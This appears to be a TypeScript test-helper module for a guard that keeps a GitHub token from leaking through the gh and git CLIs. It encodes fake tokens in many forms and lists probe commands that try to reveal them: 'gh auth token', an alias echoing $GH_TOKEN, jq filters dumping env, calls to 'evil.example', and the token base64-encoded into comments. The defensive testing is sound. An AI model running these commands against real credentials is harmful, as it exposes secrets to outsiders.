import { chmodSync, existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** One of each kind; the last is none that its shape would give away. */
export const TOKENS = {
  classic: 'ghp_q8Zr2Lw5Tn7Yk1Vx4Bd9Hs3Jc6Mf0Pg2Ua5E',
  'fine-grained': 'github_pat_11QZ7XK2A0mWv5tRb8LyN3_hJd6sFc9GpUe1iOz4VaCkTx2BnMqYw7Er5Dl8HjSgPf',
  oauth: 'gho_m4Ct9Xe2Vw7Ns5Kq1Jz8Lb3Gd6Rf0Yh4Pu2A',
  app: 'ghs_Z1x8Cv3Bn6Mk0Lp5Jh2Gf9Ds4Aq7Wt1Er8Yu',
  enterprise: 'v1."odd\\+/%=&t:k~9f8e7d6c5b4a39281706',
} as const;

export const base64 = (text: string, before = 0) => Buffer.from('x'.repeat(before) + text).toString('base64');

/** A way to write a token down, and how much of it says a dozen characters of the token. */
interface Spelling {
  readonly text: string;
  readonly telling: number;
}

export const BEGINNING = /^(?:gh[a-z]_|github_pat_)/;

/** Every way that the contract names, and some more. */
export const spellingsOf = (token: string): Readonly<Record<string, Spelling>> => ({
  plain: { text: token, telling: 12 },
  'as JSON': { text: JSON.stringify(token).slice(1, -1), telling: 14 },
  'URL-encoded': { text: encodeURIComponent(token), telling: 18 },
  'URL-encoded in lower case': {
    text: encodeURIComponent(token).replace(/%../g, code => code.toLowerCase()),
    telling: 18,
  },
  'URL-encoded throughout': {
    text: [...Buffer.from(token)].map(byte => `%${byte.toString(16).padStart(2, '0')}`).join(''),
    telling: 36,
  },
  'in base64': { text: base64(token), telling: 16 },
  'in base64, one on': { text: base64(token, 1), telling: 16 },
  'in base64, two on': { text: base64(token, 2), telling: 16 },
  'in base64url': { text: Buffer.from(token).toString('base64url'), telling: 16 },
  'in hex': { text: Buffer.from(token).toString('hex'), telling: 24 },
});

/** What may be found nowhere: any stretch of a spelling that says so much of the token, wherever it is cut. */
export function needlesOf(token: string): Map<string, string> {
  const secret = token.replace(BEGINNING, '');
  const needles = new Map<string, string>();
  for (const [name, { text, telling }] of Object.entries(spellingsOf(secret)))
    for (let at = 0; at + telling <= text.length; at += 1) {
      const stretch = text.slice(at, at + telling);
      needles.set(stretch, name);
    }
  return needles;
}

/** The spellings that a text has a telling part of, each with the first such part. */
export function findIn(text: string, needles: ReadonlyMap<string, string>): string[] {
  const found = new Map<string, string>();
  for (const [needle, name] of needles) {
    const at = found.has(name) ? -1 : text.indexOf(needle);
    if (at !== -1) found.set(name, text.slice(Math.max(0, at - 40), at + 60));
  }
  return [...found].map(([name, around]) => `${name}: ${around}`);
}

export function filesUnder(folder: string): string[] {
  if (!existsSync(folder)) return [];
  return readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .map(name => join(folder, name))
    .filter(path => statSync(path, { throwIfNoEntry: false })?.isFile());
}

/** What a file holds; nothing of one that is gone by now, as a file is that was written beside and then renamed. */
export function contentOf(file: string): string {
  try {
    return readFileSync(file, 'latin1');
  } catch (error) {
    if ((error as NodeJS.ErrnoException).code === 'ENOENT' && file.endsWith('.tmp')) return '';
    throw error;
  }
}

/** A program that writes its words down and then does what it is for. */
export function watched(folder: string, name: string, real: string, log: string): string {
  const file = join(folder, name);
  writeFileSync(file, `#!/bin/sh\nprintf '%s\\n' "$0 $*" >> '${log}'\nexec '${real}' "$@"\n`);
  chmodSync(file, 0o755);
  return file;
}

const JQ = [
  'env',
  '$ENV',
  'env.GH_TOKEN',
  '$ENV.GITHUB_TOKEN | @base64',
  '"x" + $ENV.GH_TOKEN | @base64',
  '"xy" + env.GH_TOKEN | @base64',
  '"\\($ENV.GH_TOKEN)"',
  '@uri "\\(env.GH_TOKEN)"',
  '$ENV | tojson',
  'env | to_entries | map(.value) | join(" ")',
  '. as $x | env | .GH_TOKEN[0:20]',
  '[env.GH_TOKEN | explode]',
  'error(env.GH_TOKEN)',
  'env.GH_TOKEN | debug',
  'env.GH_TOKEN | halt_error',
  'env.GH_TOKEN | input',
];
const TEMPLATES = [
  '{{env}}',
  '{{.env}}',
  '{{ "GH_TOKEN" | env }}',
  '{{printf "%v" .}}',
  '{{range $k, $v := .}}{{$v}}{{end}}',
];

/** Commands to try with each token in use. */
export const eachTokenOf = (token: string): string[] => [
  'gh issue list',
  'gh api -i user',
  'gh api --verbose user',
  'gh auth status -t',
  "gh api user --jq 'env'",
  `gh issue list --search '${token.replaceAll("'", '')}'`,
];

/** Commands that print, or try to, what nobody may see. */
export const commandsOf = (issue: number, token: string): string[] => [
  `gh issue view ${issue} --comments --json body,comments,title`,
  `gh issue view ${issue} --json comments --jq '.comments[].body'`,
  `gh issue view ${issue} --json comments --template '{{range .comments}}{{.body}}{{end}}'`,
  `gh api repos/octo/demo/issues/${issue}/comments`,
  `gh api -i repos/octo/demo/issues/${issue}/comments`,
  'gh api --verbose user',
  'gh api -i user',
  "gh api -i -H 'If-None-Match: x' user",
  'gh api user --cache 1h',
  'gh pr list',
  'gh auth status',
  'gh auth status -t',
  'gh auth status --show-token',
  'gh auth token',
  'gh auth git-credential get',
  'gh auth setup-git',
  'gh config get oauth_token -h github.com',
  'gh config get -h github.com oauth_token',
  'gh config list',
  'gh config set http_unix_socket /tmp/elsewhere.sock',
  "gh alias set leak '!echo $GH_TOKEN'",
  'gh leak',
  'gh extension list',
  'gh api repos/octo/nothing',
  'gh api //evil.example/x',
  'gh api https://evil.example/x',
  'gh issue close 999',
  `gh issue comment ${issue} --body hello`,
  `gh issue list --search '${token}'`,
  `gh api 'repos/octo/demo/issues?q=${encodeURIComponent(token)}'`,
  `gh issue comment ${issue} --body '${Buffer.from(token).toString('base64')}'`,
  ...JQ.map(filter => `gh api user --jq '${filter}'`),
  ...JQ.slice(0, 4).map(filter => `gh pr list --json title --jq '${filter}'`),
  ...TEMPLATES.map(template => `gh api user --template '${template}'`),
  'git log -p',
  'git show HEAD:spellings.txt',
  'git grep -n spelled',
  'git diff HEAD~1',
  'git config --list',
  `git log --grep='${token.replaceAll("'", '')}'`,
  `git commit --allow-empty -m '${token.replaceAll("'", '')}'`,
];
